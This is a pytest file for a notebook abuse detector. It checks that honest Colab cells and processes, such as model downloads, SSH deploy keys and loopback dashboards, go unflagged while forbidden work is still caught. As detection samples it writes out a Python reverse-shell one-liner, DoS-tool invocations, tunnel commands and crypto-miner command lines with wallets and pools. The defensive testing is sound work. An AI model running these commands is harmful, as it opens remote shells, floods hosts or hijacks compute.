"""Honest notebook work near the process signatures (fp18): fast model downloads (aria2c as
Stable Diffusion and LLM notebooks run it, gdown, huggingface-cli, wget -c, git lfs), a deploy
key and git over SSH, dashboards on loopback, monitors, courses on password hashing, sockets
and nmap's reports, a lecture video, face blur and face detection, version checks.

Each is checked as a cell before it runs and as the processes the sampler sees (name, command
line, sockets, the markers of its content); two run as real processes (nmap -V as python-nmap
runs it, aria2c with 16 connections). The false positives found here are fixed in the
signatures, each also a `no_match` example there; the forbidden work beside each fix is still
recognised (STILL_RECOGNISED)."""

from __future__ import annotations

import http.server
import os
import shutil
import socketserver
import subprocess
import threading
import time

import pytest

from colab_guard.detect.cells import CellProcess
from colab_guard.detect.engine import Engine
from colab_guard.detect.signatures import load_signatures
from colab_guard.observe.model import Process, Snapshot, Socket
from colab_guard.observe.processes import ProcessSampler, kernel_environment
from tests.harness import wait_until

RULES = load_signatures()
#: Past every signature's hold (`for`, 60 s at most): a condition held that long matches.
HELD = 61.0


def cell_detections(source: str) -> list[str]:
    found = Engine(RULES).evaluate(Snapshot("k", 1.0, [CellProcess(pid=7, is_kernel=True,
                                                                   cell=source)]))
    return sorted({d.signature.id for d in found})


def process_detections(*processes: Process) -> list[str]:
    """What the engine finds on processes seen twice, HELD seconds apart (a behaviour that
    lasts)."""
    engine = Engine(RULES)
    engine.evaluate(Snapshot("k", 1000.0, list(processes)))
    return sorted({d.signature.id for d in engine.evaluate(Snapshot("k", 1000.0 + HELD,
                                                                    list(processes)))})


def connected(ip: str, port: int, count: int = 1, local_port: int = 40000) -> list[Socket]:
    return [Socket("tcp", "10.0.0.2", local_port + i, ip, port, "ESTABLISHED")
            for i in range(count)]


def listening(port: int, ip: str = "127.0.0.1", clients: int = 0) -> list[Socket]:
    return [Socket("tcp", ip, port, status="LISTEN")] + [
        Socket("tcp", "127.0.0.1", port, "127.0.0.1", 50000 + i, "ESTABLISHED")
        for i in range(clients)]


# ---------------------------------------------------------------- false positives fixed here

FIXED_CELLS = [
    # proxy-known-tool: a version check of an installed tunnel opens nothing
    ("cloudflared version check", "!cloudflared --version\n!cloudflared version"),
    ("ngrok version check", "!ngrok version && ngrok --help | head -5"),
    # scan-known-tool: a network course checking its nmap install
    ("nmap version check", "!nmap --version\n!nmap -V"),
    # dos-known-tool: a file named like a DoS script given to git, or a Rowhammer model
    ("git adds a file named hammer.py", "!git add hammer.py && git commit -m 'rowhammer model'"),
    ("a Rowhammer simulation named hammer.py", "!python hammer.py --rows 8192 --flips"),
    ("an image tool named hulk.py", "!python3 hulk.py --image hulk.jpg --out green.png"),
    ("a film's data named goldeneye.py", "!python goldeneye.py --film 1995 --plot"),
    # remote-known-server: an npm script named start-host
    ("npm run start-host", "!npm run start-host"),
    # proxy-known-tool took the word sshuttle anywhere: installing it is acquire-tunnel-tool's
    # warning, looking it up nothing
    ("pip show sshuttle", "!pip show sshuttle\n!pip uninstall -y sshuttle"),
    # remote-reverse-shell: a program's output sent to the course's collector, no shell
    ("print() to a socket in python -c",
     "!python -c \"import socket,os; s=socket.socket(); s.connect(('127.0.0.1',9000)); "
     "os.dup2(s.fileno(),1); print('hello')\""),
    # acquire-miner-release: T-REx, NLP's knowledge-base triples (LAMA's probes), for T-Rex's
    # release (a miner's: the cell refused)
    ("the T-REx data set", "!wget -O TREx.zip https://figshare.com/ndownloader/files/8760241 "
     "&& unzip -q TREx.zip -d data/trex"),
    # torrent-aria2-bittorrent: a downloader alias's BitTorrent options on an HTTPS model
    ("aria2c alias with --seed-time=0",
     "!aria2c --seed-time=0 -c -x 16 -s 16 -k 1M https://huggingface.co/TheBloke/Llama-2-7B-GGUF"
     "/resolve/main/llama-2-7b.Q4_K_M.gguf -d /content/models -o llama-2-7b.Q4_K_M.gguf"),
    ("aria2c with BitTorrent switched off",
     "!aria2c --bt-max-peers=0 --enable-dht=false -x 16 https://huggingface.co/x/y/resolve/main/"
     "model.safetensors -o model.safetensors"),
]


@pytest.mark.parametrize("what, cell", FIXED_CELLS, ids=[c[0] for c in FIXED_CELLS])
def test_a_cell_stopped_before_runs_now(what, cell):
    assert cell_detections(cell) == []


FIXED_PROCESSES = [
    # python-nmap's PortScanner() runs `nmap -V` to find nmap, also to parse a saved XML report;
    # its content shows nmap's markers once the file was scanned (scan-tool-content)
    ("python-nmap's nmap -V",
     Process(pid=11, name="nmap", exe="/usr/bin/nmap", cmdline=["/usr/bin/nmap", "-V"],
             exe_markers=["nmap"])),
    ("cloudflared -v", Process(pid=12, name="cloudflared", exe="/usr/local/bin/cloudflared",
                               cmdline=["cloudflared", "-v"], exe_markers=["tunnel-client"])),
    ("ngrok version", Process(pid=15, name="ngrok", exe="/usr/local/bin/ngrok",
                              cmdline=["/usr/local/bin/ngrok", "version"],
                              exe_markers=["tunnel-client"])),
    ("black formats hulk.py", Process(pid=13, name="black", cmdline=[
        "/usr/bin/python3", "/usr/local/bin/black", "hulk.py", "hammer.py"])),
    # mining-wallet-login: a client of the notebook's own model server given a hex id that
    # starts with 1 or 3 (a Hugging Face revision, an MLflow run) took it for a Bitcoin address
    ("a benchmark pinned to a model's revision",
     Process(pid=16, name="python3", cmdline=[
         "python3", "bench.py", "--url", "http://127.0.0.1:8000/v1", "--model",
         "mistralai/Mistral-7B-Instruct-v0.2", "--revision",
         "3ad372fc79158a2148299e3318516c786aeded6c"],
         sockets=[Socket("tcp", "127.0.0.1", 40001, "127.0.0.1", 8000, "ESTABLISHED")])),
    ("an MLflow model's client given its run",
     Process(pid=17, name="python3", cmdline=[
         "python3", "predict.py", "--url", "http://127.0.0.1:5000/invocations", "--run-id",
         "1f3a9c2b7d8e4f5a6b7c8d9e0f1a2b3c"],
         sockets=[Socket("tcp", "127.0.0.1", 40002, "127.0.0.1", 5000, "ESTABLISHED")])),
    # mining-miner-options: a coin or an algorithm named by a program that fetches from an API
    ("a price tracker's --coin ethereum",
     Process(pid=18, name="python3", cmdline=["python3", "fetch_prices.py", "--coin", "ethereum",
                                              "--days", "365", "--out", "eth.csv"],
             sockets=connected("104.16.1.1", 443))),
    ("a profitability calculator's --algo ethash",
     Process(pid=19, name="python3", cmdline=["python3", "profitability.py", "--algo", "ethash",
                                              "--hashrate", "60"],
             sockets=connected("104.16.1.1", 443))),
    # a deepfake detector training on GPU with FaceForensics++' FaceSwap frames open (h5py)
    ("a deepfake detector's training frames",
     Process(pid=14, name="python3", cmdline=["python3", "train_detector.py", "--method",
                                              "FaceSwap"], gpu_percent=92, gpu_memory_mb=21000,
             open_files=["/content/data/ff++_faceswap_c23_frames.h5",
                         "/content/data/FaceSwap_c23_val.tfrecord"])),
]


@pytest.mark.parametrize("what, process", FIXED_PROCESSES, ids=[p[0] for p in FIXED_PROCESSES])
def test_a_process_stopped_before_runs_now(what, process):
    assert process_detections(process) == []


STILL_RECOGNISED = [
    ("a tunnel after the version check",
     "!cloudflared --version && cloudflared tunnel --url http://localhost:8888",
     "proxy-known-tool"),
    ("ngrok's tunnel", "!ngrok http 8888", "proxy-known-tool"),
    ("pproxy's -v serves a proxy", "!pproxy -v", "proxy-known-tool"),
    ("tor asked for its version (no exception but cloudflared's and ngrok's)", "!tor --version",
     "proxy-known-tool"),
    ("nmap scanning", "!nmap -V 127.0.0.1", "scan-known-tool"),
    ("T-Rex's release unpacked", "!tar xf t-rex-0.26.8-linux.tar.gz", "acquire-miner-release"),
    ("sshuttle's VPN", "!sshuttle -r me@vps.example.org 0/0", "proxy-known-tool"),
    ("sshuttle installed (a warning)", "!pip install sshuttle", "acquire-tunnel-tool"),
    ("a Python reverse shell on a python -c line",
     "!python3 -c \"import socket,os; s=socket.socket(); s.connect(('10.0.0.1',4444)); "
     "[os.dup2(s.fileno(),f) for f in (0,1,2)]; os.system('bash -i')\"",
     "remote-reverse-shell"),
    ("hammer.py at a host", "!python3 hammer.py -s 127.0.0.1 -p 80 -t 135", "dos-known-tool"),
    ("hulk.py at a URL", "!python hulk.py http://127.0.0.1:8080/", "dos-known-tool"),
    ("slowloris.py, whatever its options", "!python3 -u slowloris.py 127.0.0.1 -s 500",
     "dos-known-tool"),
    ("Chrome Remote Desktop's host", "!/opt/google/chrome-remote-desktop/start-host "
     "--code=4/0Ab --redirect-url=https://remotedesktop.google.com/_/oauthredirect",
     "remote-known-server"),
    ("aria2c's BitTorrent options on a local file", "!aria2c --seed-time=0 data.bin",
     "torrent-aria2-bittorrent"),
    ("aria2c with a torrent among HTTPS downloads",
     "!aria2c --seed-time=0 https://example.org/a.bin https://example.org/ubuntu.torrent",
     "torrent-aria2-bittorrent"),
    ("aria2c told to follow a torrent", "!aria2c --follow-torrent=mem https://example.org/get?id=7",
     "torrent-aria2-bittorrent"),
]


@pytest.mark.parametrize("what, cell, signature", STILL_RECOGNISED,
                         ids=[c[0] for c in STILL_RECOGNISED])
def test_the_forbidden_work_beside_each_fix_is_still_recognised(what, cell, signature):
    assert signature in cell_detections(cell)


def test_a_renamed_scanner_asked_only_for_its_version_is_still_known_by_its_content():
    masscan = Process(pid=21, name="kworker", cmdline=["./kworker", "-V"], exe_markers=["masscan"])
    nmap_scanning = Process(pid=22, name="kworker", cmdline=["./kworker", "-V", "127.0.0.1"],
                            exe_markers=["nmap"])
    assert process_detections(masscan) == ["scan-tool-content"]
    assert process_detections(nmap_scanning) == ["scan-tool-content"]


@pytest.mark.parametrize("wallet", ["1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2.rig1",
                                    "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
                                    "0x52908400098527886E0F7030069857D2E4169EE7"])
def test_a_miner_logging_in_with_a_wallet_is_still_recognised(wallet):
    miner = Process(pid=24, name="kworker", cmdline=["./kworker", "-o", "10.2.2.2:3333", "-u",
                                                     wallet, "-p", "x"],
                    sockets=[Socket("tcp", "10.0.0.2", 40003, "10.2.2.2", 3333, "ESTABLISHED")])
    assert "mining-wallet-login" in process_detections(miner)


@pytest.mark.parametrize("argv", [
    ["./kworker", "--coin", "monero", "-o", "stratum+ssl://pool.example.net:443", "-u", "me"],
    ["./lm", "--algo", "ETCHASH", "--pool", "etc.pool.example:1010", "--user", "me.rig1"],
    ["./kworker", "-a", "kawpow", "-o", "stratum1+tcp://0xabc@10.2.2.2:4444"],
], ids=["--coin with a pool", "--algo with a pool", "--algo with a wallet@pool"])
def test_a_miner_naming_its_coin_and_pool_is_still_recognised(argv):
    miner = Process(pid=25, name="kworker", cmdline=argv,
                    sockets=[Socket("tcp", "10.0.0.2", 40004, "10.2.2.2", 443, "ESTABLISHED")])
    assert "mining-miner-options" in process_detections(miner)


def test_a_swap_model_kept_open_on_a_busy_gpu_is_still_recognised():
    swapping = Process(pid=23, name="python3", cmdline=["python3", "app.py"], gpu_percent=87,
                       open_files=["/content/models/my_swapper_v2.onnx"])
    assert process_detections(swapping) == ["gpu-deepfake-swap-model-busy"]


# ---------------------------------------------------------------- honest work that passed already

HONEST_CELLS = [
    ("aria2c, camenduru's model download",
     "!aria2c --console-log-level=error -c -x 16 -s 16 -k 1M https://huggingface.co/runwayml/"
     "stable-diffusion-v1-5/resolve/main/v1-5-pruned-emaonly.safetensors -d /content/models "
     "-o model.safetensors"),
    ("aria2c, a list of models", "!aria2c --console-log-level=error -c -x 16 -s 16 -k 1M "
     "-i /content/controlnet_models.txt -d /content/models"),
    ("aria2c, a log and parameterized URIs",
     "!aria2c -x 16 -s 16 -l aria.log -P https://huggingface.co/x/y/resolve/main/"
     "model-0000{1,2}-of-00002.safetensors"),
    ("aria2 installed", "!apt -y install -qq aria2"),
    ("gdown", "!gdown --id 1Cxo1jFrzpUxfFmOcVBS3vZeo0XPQ8rqg -O data.zip\n"
     "!gdown --folder https://drive.google.com/drive/folders/1abc -O /content/data"),
    ("gdown from Python", "import gdown\ngdown.download('https://drive.google.com/uc?id=1abc', "
     "'weights.pth', quiet=False)"),
    ("huggingface-cli download", "!huggingface-cli download TheBloke/Mistral-7B-Instruct-v0.2-GGUF "
     "mistral-7b-instruct-v0.2.Q4_K_M.gguf --local-dir . --local-dir-use-symlinks False"),
    ("hf_hub_download", "from huggingface_hub import hf_hub_download\np = hf_hub_download("
     "repo_id='stabilityai/stable-diffusion-xl-base-1.0', filename='sd_xl_base_1.0.safetensors')"),
    ("wget -c", "!wget -q --show-progress -c -P /content/models https://example.org/vgg16.pth"),
    ("curl resuming", "!curl -L -o model.safetensors -C - https://huggingface.co/x/resolve/main/"
     "model.safetensors"),
    ("git lfs", "!git lfs install\n!GIT_LFS_SKIP_SMUDGE=1 git clone https://huggingface.co/"
     "runwayml/stable-diffusion-v1-5\n%cd stable-diffusion-v1-5\n!git lfs pull -I '*.safetensors'"),
    ("a deploy key", "!ssh-keygen -t ed25519 -C 'colab-deploy' -f ~/.ssh/id_ed25519 -N ''\n"
     "!ssh-keyscan -t ed25519 github.com >> ~/.ssh/known_hosts\n!cat ~/.ssh/id_ed25519.pub"),
    ("git over SSH", "!GIT_SSH_COMMAND='ssh -i ~/.ssh/id_ed25519 -o StrictHostKeyChecking=no' "
     "git clone git@github.com:me/private-repo.git\n!ssh -T git@github.com"),
    ("tensorboard", "%load_ext tensorboard\n%tensorboard --logdir logs/fit --port 6006"),
    ("tensorboard in the background",
     "!nohup tensorboard --logdir runs --bind_all --port 6006 > tb.log 2>&1 &"),
    ("gradio on loopback, no share link", "import gradio as gr\ndemo = gr.Interface(fn=lambda x: x,"
     " inputs='text', outputs='text')\ndemo.launch(server_name='127.0.0.1', server_port=7860, "
     "share=False)"),
    ("streamlit on loopback",
     "!streamlit run app.py --server.address 127.0.0.1 --server.port 8501 &"),
    ("http.server for a plot folder",
     "!python -m http.server 8000 --bind 127.0.0.1 --directory plots &"),
    ("nvidia-smi dmon", "!nvidia-smi dmon -s pucvmet -d 5 -c 3\n"
     "!nohup nvidia-smi --query-gpu=name,utilization.gpu --format=csv -l 1 > gpu.log &"),
    ("pip download", "!pip download torch==2.1.0 --no-deps -d wheels/\n"
     "!pip install --no-index --find-links wheels/ torch"),
    ("a hashlib benchmark", "import hashlib, time\nfor algo in ['md5', 'sha1', 'sha256', "
     "'blake2b']:\n    t = time.perf_counter()\n    for _ in range(100000): hashlib.new(algo, "
     "b'x' * 64).digest()\n    print(algo, time.perf_counter() - t)"),
    ("a course on bcrypt", "!pip install bcrypt passlib argon2-cffi\nimport bcrypt\n"
     "hashed = bcrypt.hashpw(b'correct horse', bcrypt.gensalt(rounds=12))\n"
     "assert bcrypt.checkpw(b'correct horse', hashed)"),
    ("a course on passlib", "from passlib.hash import pbkdf2_sha256, sha512_crypt\n"
     "h = pbkdf2_sha256.hash('hunter2')\nprint(sha512_crypt.using(rounds=5000).hash('hunter2'))"),
    ("a dictionary attack on the course's own hash", "import hashlib\nwordlist = ['password', "
     "'123456', 'hunter2']\ntarget = hashlib.sha256(b'hunter2').hexdigest()\nfor w in wordlist:\n"
     "    if hashlib.sha256(w.encode()).hexdigest() == target: print('found', w)"),
    ("an echo client", "import socket\nwith socket.create_connection(('127.0.0.1', 9000)) as s:\n"
     "    s.sendall(b'hello')\n    print(s.recv(1024))"),
    ("an echo server", "import socket, threading\ndef serve():\n    srv = socket.socket(); "
     "srv.bind(('127.0.0.1', 9000)); srv.listen()\n    conn, _ = srv.accept()\n"
     "    while data := conn.recv(1024): conn.sendall(data)\n"
     "threading.Thread(target=serve, daemon=True).start()"),
    ("printing to a socket", "import socket, os\ns = socket.create_connection(('127.0.0.1', "
     "9000))\nos.dup2(s.fileno(), 1)\nprint('hello over the socket')"),
    ("nc to the course's echo server", "!echo hello | nc -q 1 127.0.0.1 9000"),
    ("python-nmap parsing a report", "!pip install python-nmap\nimport nmap\n"
     "nm = nmap.PortScanner()\nres = nm.analyse_nmap_xml_scan(open('scan.xml').read())"),
    ("yt-dlp for a lecture", "!pip install -q yt-dlp\n!yt-dlp -f 'bestaudio[ext=m4a]' -o "
     "lecture.m4a https://www.youtube.com/watch?v=aircAruvnKk"),
    ("yt-dlp with aria2c", "!yt-dlp --external-downloader aria2c --external-downloader-args "
     "'-x 16 -s 16 -k 1M' -o lecture.mp4 https://www.youtube.com/watch?v=aircAruvnKk"),
    ("ffmpeg face blur", "!ffmpeg -y -i talk.mp4 -filter_complex \"[0:v]crop=200:200:60:30,"
     "boxblur=10[fg];[0:v][fg]overlay=60:30[v]\" -map \"[v]\" -map 0:a out.mp4"),
    ("insightface detection", "!pip install insightface onnxruntime-gpu\nimport insightface\n"
     "from insightface.app import FaceAnalysis\napp = FaceAnalysis(name='buffalo_l')\n"
     "app.prepare(ctx_id=0, det_size=(640, 640))\nfaces = app.get(img)"),
    ("insightface's detector model", "import insightface\ndet = insightface.model_zoo.get_model("
     "'/root/.insightface/models/buffalo_l/det_10g.onnx')"),
    ("openssl speed", "!openssl speed -seconds 3 sha256 aes-128-gcm rsa2048"),
    ("a self-signed certificate", "!openssl req -x509 -newkey rsa:4096 -keyout key.pem -out "
     "cert.pem -days 365 -nodes -subj '/CN=localhost'"),
    ("htop and top", "!apt-get install -y htop && htop -d 10\n!top -b -n 1 | head -20"),
    ("tmux", "!tmux new -d -s train 'python train.py --epochs 10 > train.log 2>&1'\n!tmux ls"),
    ("screen", "!screen -dmS train python train.py --epochs 10"),
    ("ssh -L to a cluster's Jupyter", "!ssh -N -f -L 8888:localhost:8888 me@cluster.example.org"),
    ("rsync over ssh", "!rsync -avz -e 'ssh -p 2222' me@cluster.example.org:/data/ data/"),
    ("paramiko sftp", "import paramiko\nc = paramiko.SSHClient()\nc.connect('cluster.example.org',"
     " username='me', key_filename='id_ed25519')\nc.open_sftp().get('/data/a.csv', 'a.csv')"),
    ("a forward to one's own app on loopback",
     "!socat TCP-LISTEN:7861,fork,bind=127.0.0.1 TCP:127.0.0.1:7860 &"),
    ("lftp mirror", "!lftp -u anonymous, -e 'mirror --parallel=4 /pub/data data; quit' "
     "ftp://ftp.example.org"),
    ("hydra-core, Facebook's configuration framework",
     "!pip install hydra-core\n!python train.py --multirun model=resnet18,resnet50"),
    ("medusa heads for an LLM", "!python medusa_head_train.py --base-model vicuna-7b "
     "--medusa-num-heads 4"),
    ("kaggle download", "!kaggle datasets download -d uciml/iris --unzip"),
]


@pytest.mark.parametrize("what, cell", HONEST_CELLS, ids=[c[0] for c in HONEST_CELLS])
def test_an_honest_cell_runs(what, cell):
    assert cell_detections(cell) == []


HF = "18.164.174.55"  # a CDN's address (huggingface.co's are CloudFront's)
HONEST_PROCESSES = [
    ("aria2c -x 16, its content aria2c's",
     Process(pid=31, name="aria2c", exe="/usr/bin/aria2c", cpu_percent=60, exe_markers=["aria2"],
             cmdline=["aria2c", "--console-log-level=error", "-c", "-x", "16", "-s", "16", "-k",
                      "1M", "https://huggingface.co/runwayml/stable-diffusion-v1-5/resolve/main/"
                      "v1-5-pruned-emaonly.safetensors", "-d", "/content/models", "-o",
                      "model.safetensors"],
             sockets=connected(HF, 443, 16))),
    ("gdown", Process(pid=32, name="gdown", cmdline=["/usr/bin/python3", "/usr/local/bin/gdown",
                                                     "--id", "1Cxo1jFrzpUxfFmOcVBS3vZeo0XPQ8rqg"],
                      sockets=connected("142.250.74.14", 443))),
    ("huggingface-cli with hf_transfer",
     Process(pid=33, name="huggingface-cli", cpu_percent=180, threads=24,
             cmdline=["/usr/bin/python3", "/usr/local/bin/huggingface-cli", "download",
                      "meta-llama/Llama-2-7b-hf", "--local-dir", "llama"],
             sockets=connected(HF, 443, 8))),
    ("wget -c", Process(pid=34, name="wget", cmdline=["wget", "-c", "https://example.org/vgg16.pth",
                                                      "-O", "vgg16.pth"],
                        sockets=connected("93.184.216.34", 443))),
    ("git-lfs", Process(pid=35, name="git-lfs", exe="/usr/bin/git-lfs",
                        cmdline=["git-lfs", "filter-process"], sockets=connected(HF, 443, 3))),
    ("ssh-keygen", Process(pid=36, name="ssh-keygen", cmdline=[
        "ssh-keygen", "-t", "ed25519", "-C", "colab-deploy", "-f", "/root/.ssh/id_ed25519", "-N",
        ""])),
    ("git's ssh to GitHub", Process(pid=37, name="ssh", cmdline=[
        "ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@github.com", "git-upload-pack 'me/repo.git'"],
        sockets=connected("140.82.121.4", 22))),
    ("tensorboard --bind_all", Process(pid=38, name="tensorboard", cmdline=[
        "/usr/bin/python3", "/usr/local/bin/tensorboard", "--logdir", "runs", "--bind_all"],
        sockets=listening(6006, "0.0.0.0", clients=2))),
    ("a gradio app in the kernel, on loopback",
     Process(pid=39, name="python3", is_kernel=True, imports=("gradio", "uvicorn"),
             listening_modules=("asyncio",), sockets=listening(7860, clients=3))),
    ("streamlit", Process(pid=40, name="streamlit", cmdline=[
        "/usr/bin/python3", "/usr/local/bin/streamlit", "run", "app.py"],
        sockets=listening(8501, "0.0.0.0", clients=1))),
    ("http.server previewing plots", Process(pid=41, name="python3", cmdline=[
        "python3", "-m", "http.server", "8000", "--bind", "127.0.0.1", "--directory", "plots"],
        sockets=listening(8000, clients=2))),
    ("nvidia-smi dmon", Process(pid=42, name="nvidia-smi", cmdline=[
        "nvidia-smi", "dmon", "-s", "pucvmet", "-d", "5"])),
    ("pip download", Process(pid=43, name="pip", cmdline=[
        "/usr/bin/python3", "/usr/local/bin/pip", "download", "torch==2.1.0", "-d", "wheels/"],
        sockets=connected("151.101.0.223", 443))),
    ("a hashing benchmark in the kernel", Process(pid=44, name="python3", is_kernel=True,
                                                  cpu_percent=100, cpu_demand_percent=100,
                                                  cpu_demand_steady_percent=98,
                                                  imports=("hashlib", "bcrypt", "passlib"))),
    ("an echo server and its client", Process(pid=45, name="python3", is_kernel=True,
                                              sockets=listening(9000, clients=1)
                                              + [Socket("tcp", "127.0.0.1", 50000, "127.0.0.1",
                                                        9000, "ESTABLISHED")])),
    ("yt-dlp", Process(pid=46, name="yt-dlp", cmdline=[
        "/usr/bin/python3", "/usr/local/bin/yt-dlp", "-f", "bestaudio[ext=m4a]", "-o",
        "lecture.m4a", "https://www.youtube.com/watch?v=aircAruvnKk"],
        sockets=connected("142.250.74.14", 443, 2))),
    ("ffmpeg face blur", Process(pid=47, name="ffmpeg", cpu_percent=390, threads=17, cmdline=[
        "ffmpeg", "-i", "talk.mp4", "-vf", "boxblur=10:1", "-c:a", "copy", "blurred.mp4"],
        open_files=["/content/talk.mp4", "/content/blurred.mp4"])),
    ("insightface detection on GPU", Process(pid=48, name="python3", is_kernel=True,
                                             gpu_percent=80, gpu_memory_mb=2100,
                                             imports=("insightface", "onnxruntime"),
                                             open_files=["/root/.insightface/models/buffalo_l/"
                                                         "det_10g.onnx"])),
    ("openssl speed", Process(pid=49, name="openssl", cpu_percent=100, cpu_demand_percent=100,
                              cmdline=["openssl", "speed", "-seconds", "3", "sha256"])),
    ("htop", Process(pid=50, name="htop", cmdline=["htop", "-d", "10"])),
    ("tmux's server", Process(pid=51, name="tmux: server", cmdline=[
        "tmux", "new", "-d", "-s", "train", "python train.py"])),
    ("screen", Process(pid=52, name="screen", cmdline=[
        "SCREEN", "-dmS", "train", "python", "train.py"])),
]


@pytest.mark.parametrize("what, process", HONEST_PROCESSES, ids=[p[0] for p in HONEST_PROCESSES])
def test_an_honest_process_is_left_alone(what, process):
    assert process_detections(process) == []


# ---------------------------------------------------------------- real processes


def sampled_until(kernel_pid: int, ready, timeout: float = 30.0) -> list[str]:
    """Samples the stand-in kernel's tree until ``ready(snapshot)``, evaluating every built-in
    signature at each tick; the signatures that matched on the way."""
    sampler, engine, found = ProcessSampler(), Engine(RULES), set()
    state = {"ready": False}

    def tick() -> bool:
        snapshot = sampler.sample({"k": kernel_pid})["k"]
        found.update(d.signature.id for d in engine.evaluate(snapshot))
        state["ready"] = ready(snapshot)
        return state["ready"]

    try:
        wait_until(tick, timeout=timeout, interval=0.1, what="the workload seen as it runs")
    finally:
        sampler.content.close()
    return sorted(found)


def kernel_running(command: str, **kw) -> subprocess.Popen:
    """A shell standing in for the kernel (a `!` line): its environment names kernel k."""
    return subprocess.Popen(["/bin/sh", "-c", command + "\nsleep 600"],
                            env=kernel_environment("k"), start_new_session=True, **kw)


def stop(proc: subprocess.Popen) -> None:
    os.killpg(proc.pid, 9)
    proc.wait()


def full_pipe() -> tuple[int, int]:
    """A pipe whose buffer is full: whoever writes to it waits."""
    read, write = os.pipe()
    os.set_blocking(write, False)
    try:
        while True:
            os.write(write, bytes(65536))
    except BlockingIOError:
        pass
    os.set_blocking(write, True)
    return read, write


@pytest.mark.skipif(shutil.which("nmap") is None, reason="nmap is not installed")
def test_python_nmaps_version_query_runs_undisturbed():
    """python-nmap's PortScanner() runs `nmap -V` to find nmap, also in a notebook that only
    parses a saved report. Here it waits on a full pipe, so that the sampler sees it, content
    scanned (nmap's markers), as long as it likes."""
    read, write = full_pipe()
    kernel = kernel_running("nmap -V", stdout=write)
    try:
        def nmap_scanned(snapshot) -> bool:
            return any(p.name == "nmap" and "nmap" in p.exe_markers for p in snapshot.processes)
        assert sampled_until(kernel.pid, nmap_scanned) == []
    finally:
        stop(kernel)
        os.close(read)
        os.close(write)


class _Ranged(http.server.BaseHTTPRequestHandler):
    """A model file of SIZE bytes at any path, by ranges, sent slowly (a CDN's pace)."""

    SIZE = 64 << 20
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def do_GET(self):
        start, end = 0, self.SIZE - 1
        asked = self.headers.get("Range", "")
        if asked.startswith("bytes="):
            first, _, last = asked[6:].partition("-")
            start, end = int(first or 0), int(last) if last else self.SIZE - 1
            self.send_response(206)
            self.send_header("Content-Range", f"bytes {start}-{end}/{self.SIZE}")
        else:
            self.send_response(200)
        self.send_header("Content-Length", str(end - start + 1))
        self.send_header("Accept-Ranges", "bytes")
        self.end_headers()
        left = end - start + 1
        try:
            while left > 0:
                sent = min(left, 16384)
                self.wfile.write(bytes(sent))
                left -= sent
                time.sleep(0.05)
        except OSError:
            pass  # aria2c closed it


class _Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True


@pytest.fixture
def model_server():
    server = _Server(("127.0.0.1", 0), _Ranged)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.mark.skipif(shutil.which("aria2c") is None, reason="aria2c is not installed")
@pytest.mark.parametrize("options", ["--console-log-level=error -c -x 16 -s 16 -k 1M",
                                     "--seed-time=0 -c -x 16 -s 16 -k 1M"],
                         ids=["camenduru's", "an alias's --seed-time=0"])
def test_aria2c_fetching_a_model_over_16_connections_runs_undisturbed(options, model_server,
                                                                      tmp_path):
    """As Stable Diffusion and LLM notebooks fetch weights; the guard sees aria2c's content
    (its option files are read) and its connections."""
    url = f"{model_server}/runwayml/stable-diffusion-v1-5/resolve/main/v1-5-pruned-emaonly" \
          ".safetensors"
    kernel = kernel_running(f"aria2c {options} {url} -d {tmp_path} -o model.safetensors",
                            cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        def downloading(snapshot) -> bool:
            return any(p.name == "aria2c" and "aria2" in p.exe_markers and len(p.sockets) >= 8
                       for p in snapshot.processes)
        assert sampled_until(kernel.pid, downloading) == []
    finally:
        stop(kernel)
